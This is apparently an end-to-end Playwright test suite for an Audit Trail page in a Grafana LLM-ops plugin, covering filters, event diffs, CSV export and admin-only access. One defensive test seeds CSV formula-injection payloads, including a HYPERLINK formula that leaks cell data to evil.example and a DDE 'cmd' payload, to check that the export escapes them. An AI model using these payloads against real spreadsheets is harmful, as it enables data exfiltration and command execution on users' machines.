/**
 * The Audit Trail against SQL on the same rows: the filters, the event detail's before/after diff,
 * the CSV export, and who may see it at all (the page and the backend).
 */
import { BURST_IP } from '../../tools/seed/audit';
import { expect, lastDays, test, type Role } from './fixtures';
import type { AuditFilter, AuditRow, TimeRange } from './ledgerSql';
import { AUDIT_URL, SECURITY_URL, eventPath, type AuditPage } from './pages/AuditPage';

/** Rows per page of the events table (src/pages/Audit/auditQueries.ts). */
const PAGE_SIZE = 50;

/** What the "Security events" tab lists: failed logins, role changes and API keys. */
const SECURITY_ACTIONS = ['USER_LOGIN_FAILURE', 'USER_ROLE_CHANGE', 'API_KEY_CREATE', 'API_KEY_REVOKE'];

const params = (range: TimeRange, vars: Record<string, string | string[]> = {}) => ({
  from: range.fromMs,
  to: range.toMs,
  ...Object.fromEntries(Object.entries(vars).map(([k, v]) => [`var-${k}`, v])),
});

/** The table shows what SQL finds: the count, the page count, and the first page's ids in order. */
async function expectTable(audit: AuditPage, sql: AuditRow[]): Promise<void> {
  await expect(async () => {
    expect(await audit.total()).toEqual({
      total: sql.length,
      page: 1,
      pages: Math.max(1, Math.ceil(sql.length / PAGE_SIZE)),
    });
    expect(await audit.rowIds()).toEqual(sql.slice(0, PAGE_SIZE).map((r) => r.id));
  }).toPass();
}

test.describe('Audit Trail', () => {
  test('says whether the trail holds: seeded events were not written through the ingest, so not chained', async ({
    auditPage,
    ledger,
  }) => {
    const range = lastDays(ledger, 30);
    await auditPage.goto(params(range));
    await expect(auditPage.trust()).toContainText('Not chained');
    // Each chain is named by its tenant's name where the directory has one (the first chain shown is
    // the smallest tenant id of the range's events, all equally "not chained").
    const [first] = await ledger.sql.rows(
      'SELECT a.tenant_id AS id, t.name FROM audit_log a LEFT JOIN tenant t ON t.id = a.tenant_id WHERE a.create_time BETWEEN ? AND ? AND a.tenant_id <> ? ORDER BY a.tenant_id LIMIT 1',
      [range.fromMs, range.toMs, '']
    );
    await expect(auditPage.trust()).toContainText(((first?.name ?? first?.id) as string | undefined) ?? 'Not chained');
    // The trail's state: no purge has run on the seeded ledger.
    await expect(auditPage.trustState()).toContainText(/no purge yet/i);
  });

  test('the action, tenant and text filters narrow the table as SQL says', async ({ auditPage, ledger, capture }) => {
    const range = lastDays(ledger, 30);
    const events = (f: AuditFilter = {}) => ledger.sql.auditEvents(range, f);
    await auditPage.goto(params(range));
    await expect(auditPage.title()).toHaveText('Audit Trail');
    const all = await events();
    expect(all.length).toBeGreaterThan(PAGE_SIZE);
    await expectTable(auditPage, all);
    await capture('audit');

    await auditPage.chooseVariable('Action', ['KB_UPDATE']);
    const updates = await events({ actions: ['KB_UPDATE'] });
    expect(updates.length).toBeLessThan(all.length);
    await expectTable(auditPage, updates);

    // The tenant with the most knowledge-base updates in the range.
    const counts = new Map<string, number>();
    for (const e of updates) {
      if (e.tenant) {
        counts.set(e.tenant, (counts.get(e.tenant) ?? 0) + 1);
      }
    }
    const tenant = [...counts.entries()].sort((a, b) => b[1] - a[1] || a[0].localeCompare(b[0]))[0]![0];
    // Picked by the name the picker shows; the variable's value is the id.
    await auditPage.chooseVariable('Tenant', [await ledger.sql.tenantText(tenant)]);
    const ofTenant = await events({ actions: ['KB_UPDATE'], tenants: [tenant] });
    expect(ofTenant.length).toBeLessThan(updates.length);
    await expectTable(auditPage, ofTenant);

    // Free text in the details: the updates of a description.
    await auditPage.search('description');
    const described = await events({ actions: ['KB_UPDATE'], tenants: [tenant], text: 'description' });
    expect(described.length).toBeGreaterThan(0);
    expect(described.length).toBeLessThan(ofTenant.length);
    await expectTable(auditPage, described);
  });

  test('the security tab lists the security actions only, and finds the burst of failed logins', async ({
    auditPage,
    ledger,
    capture,
  }) => {
    const range = lastDays(ledger, 30);
    await auditPage.gotoSecurity(params(range));
    const security = await ledger.sql.auditEvents(range, { actions: SECURITY_ACTIONS });
    await expectTable(auditPage, security);
    await capture('audit-security');

    await auditPage.search(BURST_IP);
    const burst = await ledger.sql.auditEvents(range, { actions: SECURITY_ACTIONS, text: BURST_IP });
    expect(burst.length).toBeGreaterThan(0);
    await expectTable(auditPage, burst);
  });

  test('the event detail shows the before/after diff of a knowledge-base update', async ({
    auditPage,
    page,
    ledger,
    capture,
  }) => {
    const range = lastDays(ledger, 30);
    const [event] = await ledger.sql.auditEvents(range, { actions: ['KB_UPDATE'] }, 1);
    const details = JSON.parse(event!.details!) as { before: Record<string, unknown>; after: Record<string, unknown> };
    const fields = [...new Set([...Object.keys(details.before), ...Object.keys(details.after)])];
    const text = (v: unknown) => (v === undefined ? 'absent' : typeof v === 'string' ? v : JSON.stringify(v));
    const expected = fields
      .filter((f) => JSON.stringify(details.before[f]) !== JSON.stringify(details.after[f]))
      .map((field) => ({ field, before: text(details.before[field]), after: text(details.after[field]) }));
    expect(expected.length).toBeGreaterThan(0);

    await auditPage.goto(params(range, { action: 'KB_UPDATE' }));
    await auditPage.openEvent(event!.id);
    await expect(page).toHaveURL(new RegExp(`${eventPath(event!.id)}`));
    await expect(auditPage.title()).toHaveText('Audit event');
    await expect(auditPage.detail()).toContainText(event!.id);
    await expect(auditPage.detail()).toContainText('KB_UPDATE');
    await expect(async () => expect(await auditPage.changes()).toEqual(expected)).toPass();
    await capture('audit-event');
  });

  test('the CSV export holds exactly the filtered events, in the table order', async ({ auditPage, ledger }) => {
    const range = lastDays(ledger, 30);
    // Failed logins include the burst: more than one page of the table, all in one file.
    const filter = { actions: ['USER_LOGIN_FAILURE'] };
    const expected = await ledger.sql.auditEvents(range, filter);
    expect(expected.length).toBeGreaterThan(PAGE_SIZE);
    await auditPage.goto(params(range, { action: 'USER_LOGIN_FAILURE' }));
    await expectTable(auditPage, expected);

    const { fileName, rows } = await auditPage.exportCsv();
    const stamp = (ms: number) =>
      new Date(ms)
        .toISOString()
        .replace(/\.\d{3}Z$/, 'Z')
        .replace(/:/g, '-');
    expect(fileName).toBe(`audit-${stamp(range.fromMs)}_${stamp(range.toMs)}.csv`);
    expect(rows[0]).toEqual(['time', 'user', 'tenant', 'action', 'details']);
    expect(rows.slice(1)).toEqual(
      expected.map((e) => [new Date(e.time).toISOString(), e.user ?? '', e.tenant ?? '', e.action, e.details ?? ''])
    );
    await expect(auditPage.exportStatus()).toHaveText(
      `Exported ${expected.length.toLocaleString('en-US')} events to ${fileName}.`
    );
  });

  test('the CSV export neutralises cells a spreadsheet would run as formulas', async ({ auditPage, ledger }) => {
    // Events whose user-written text starts a formula, an hour before the seeded window (so no other
    // spec counts them), written with the spec's own connection and removed afterwards.
    const at = ledger.endMs - 40 * 24 * 3600 * 1000;
    const range = { fromMs: at - 3600_000, toMs: at + 3600_000 };
    const hostile = [
      {
        id: 'e2ecsv00000000000000000000000001',
        user: '@evil',
        tenant: '-1+1',
        details: '=HYPERLINK("http://evil.example/?"&A1,"open")',
      },
      { id: 'e2ecsv00000000000000000000000002', user: '+cmd', tenant: 't1', details: "=cmd|' /C calc'!A0" },
      { id: 'e2ecsv00000000000000000000000003', user: 'u1', tenant: 't1', details: '{"name":"=SUM(1,2)"}' },
    ];
    try {
      for (const [i, e] of hostile.entries()) {
        await ledger.sql.rows(
          'INSERT INTO audit_log (id, user_id, tenant_id, action, details, create_time) VALUES (?, ?, ?, ?, ?, ?)',
          [e.id, e.user, e.tenant, 'KB_CREATE', e.details, at + i * 1000]
        );
      }
      await auditPage.goto(params(range));
      await expect(async () => expect(await auditPage.total()).toMatchObject({ total: hostile.length })).toPass();
      const { rows } = await auditPage.exportCsv();
      // Newest first, as the table; each formula cell keeps its text behind a leading apostrophe.
      expect(rows.slice(1).map((r) => r.slice(1))).toEqual([
        ['u1', 't1', 'KB_CREATE', '{"name":"=SUM(1,2)"}'],
        ["'+cmd", 't1', 'KB_CREATE', "'=cmd|' /C calc'!A0"],
        ["'@evil", "'-1+1", 'KB_CREATE', `'=HYPERLINK("http://evil.example/?"&A1,"open")`],
      ]);
    } finally {
      await ledger.sql.rows('DELETE FROM audit_log WHERE id IN (?)', [hostile.map((e) => e.id)]);
    }
  });

  for (const role of ['Editor', 'Viewer'] as Role[]) {
    test(`as ${role} the Audit Trail is absent: "no access" at its deep links`, async ({
      asRole,
      auditPage,
      costPage,
      page,
      target,
      ledger,
    }) => {
      await asRole(role);
      const [event] = await ledger.sql.auditEvents(lastDays(ledger, 30), {}, 1);

      // At each deep link, "no access" instead of the events. (Grafana answers a full load of a
      // page's exact URL with its own 403 before the app runs; sub-paths are the app's to guard.)
      for (const path of [AUDIT_URL, SECURITY_URL, eventPath(event!.id)]) {
        const response = await page.goto(path);
        if (target === 'grafana' && path === AUDIT_URL) {
          expect(response?.status(), path).toBe(403);
          continue;
        }
        // Soft: each deep link is reported, not only the first that fails.
        await expect.soft(auditPage.noAccess(), path).toContainText('You do not have access to Audit Trail.');
        await expect(auditPage.events(), path).toHaveCount(0);
        await expect(auditPage.detail(), path).toHaveCount(0);
      }

      // Grafana's navigation lists the app's pages the user may see (the shell draws no navigation).
      if (target === 'grafana') {
        const urls = await page.evaluate(() => {
          type Node = { id?: string; url?: string; children?: Node[] };
          const find = (nodes: Node[]): Node | undefined =>
            nodes
              .map((n) => (n.id === 'plugin-page-llmops-observability-app' ? n : find(n.children ?? [])))
              .find(Boolean);
          const tree = (window as unknown as { grafanaBootData: { navTree: Node[] } }).grafanaBootData.navTree;
          return (find(tree)?.children ?? []).map((c) => c.url ?? '');
        });
        expect(urls.some((u) => u.endsWith('/cost'))).toBe(true);
        expect(urls.some((u) => u.includes('/audit'))).toBe(false);
      }

      // The pages this role may see still open.
      await costPage.goto();
      await expect(costPage.title()).toHaveText('LLM Cost');
    });

    test(`as ${role} the backend refuses the audit query, even asked directly`, async ({ asRole, page, ledger }) => {
      await asRole(role);
      const range = lastDays(ledger, 30);
      // Straight to Grafana's query API with this user's session, as a script would.
      const res = await page.request.post('/api/ds/query', {
        data: {
          from: String(range.fromMs),
          to: String(range.toMs),
          queries: [
            { refId: 'A', datasource: { uid: ledger.uid, type: 'llmops-ledger-datasource' }, queryType: 'auditEvents' },
          ],
        },
      });
      const body = (await res.json()) as {
        results: Record<string, { status?: number; error?: string; frames?: unknown[] }>;
      };
      expect(body.results.A!.status).toBe(403);
      expect(body.results.A!.error).toMatch(/^the audit trail needs the Admin role/);
      expect(body.results.A!.frames ?? []).toEqual([]);
    });
  }

  test('as Admin the same direct audit query answers with the events', async ({ asRole, page, ledger }) => {
    await asRole('Admin');
    const range = lastDays(ledger, 30);
    const res = await page.request.post('/api/ds/query', {
      data: {
        from: String(range.fromMs),
        to: String(range.toMs),
        queries: [
          {
            refId: 'A',
            datasource: { uid: ledger.uid, type: 'llmops-ledger-datasource' },
            queryType: 'auditEvents',
            pageSize: 5,
          },
        ],
      },
    });
    expect(res.ok()).toBe(true);
    const body = (await res.json()) as {
      results: Record<string, { error?: string; frames: Array<{ data: { values: unknown[][] } }> }>;
    };
    expect(body.results.A!.error).toBeUndefined();
    const ids = body.results.A!.frames[0]!.data.values[1];
    expect(ids).toEqual((await ledger.sql.auditEvents(range, {}, 5)).map((e) => e.id));
  });
});
